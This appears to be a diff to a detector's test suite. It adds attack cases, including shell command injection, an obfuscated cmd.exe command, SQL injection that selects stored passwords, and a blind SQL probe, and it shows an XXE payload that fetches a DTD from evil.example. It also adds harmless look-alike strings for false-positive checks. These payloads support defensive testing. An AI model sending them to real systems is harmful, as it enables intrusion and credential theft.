@@ -479,6 +479,19 @@ export const ATTACKS: DetectorCase[] = [
   q("a $ne member after a number", "1, $ne: 1", "942290"),
   // An exec prefix in parentheses still runs what follows it.
   q("exec of a shell in parentheses", "(exec sh)", "932100"),
+  // A lone command after a separator, the rest commented out by a bare `#`.
+  q("a lone command cut off by a comment", ";id #", "932100"),
+  q("a quote breakout cut off by a comment", "admin'#", "942110"),
+  // cmd.exe's substring expansion spelling a command.
+  q("cmd.exe substrings spelling cmd", "127.0.0.1&%COMSPEC:~-7,1%%COMSPEC:~-4,1%%COMSPEC:~-5,1% /c ver", "932150"),
+  // MSSQL's bracketed identifiers are names.
+  q(
+    "a stacked select of bracketed names",
+    "1;SELECT [password] FROM [dbo].[Users] WHERE [username]=CHAR(97)--",
+    "942120",
+  ),
+  // A condition through a function apiward does not list.
+  q("a blind probe through an unlisted function", "1 AND CASEWHEN(SUBSTRING(H2VERSION(),1,1)='2',1,0)=1", "942100"),
   q(
     "an external DTD behind a public identifier",
     '<!DOCTYPE r PUBLIC "-//x//y" "http://evil.example/x.dtd"><r/>',
@@ -1283,6 +1296,13 @@ export const BENIGN: DetectorCase[] = [
   j("a Jinja set with a filter's default", '{% set tier = contact.subscription_tier|default("free") %}'),
   q("a search for the name __proto__", "__proto__ vs prototype"),
   q("a phrase search with a group and an exclusion", '"lounge" AND (CDG OR ORY) -uber'),
+  q("inch marks and a number sign", '1-1/4" #8 wood screws'),
+  j(
+    "a game's rich text quoted in a console command",
+    'say "<color=#ff3b30>WIPE</color> tonight 19:00 CET - <size=20>gl hf</size>"',
+  ),
+  q("a list of sizes with inch and foot marks", "2x4x8 SPF,OSB 7/16 4x8,1/2\" drywall 4x8,#10 THHN 500'"),
+  j("an emoticon after a word a shell knows", "who took my boat >:| its the one w/ the flag ~(o.o)~ /w me"),
   q("a hyphenated phrase that opens on a statement word", '"drop-off" AND (CDG OR ORY) -uber'),
   j("more than an amount in parentheses", "ok w/ extractions if needed (call me first: >$500?)"),
   j("an executive lounge in parentheses", "エグゼクティブラウンジ（exec lounge）は18時から"),
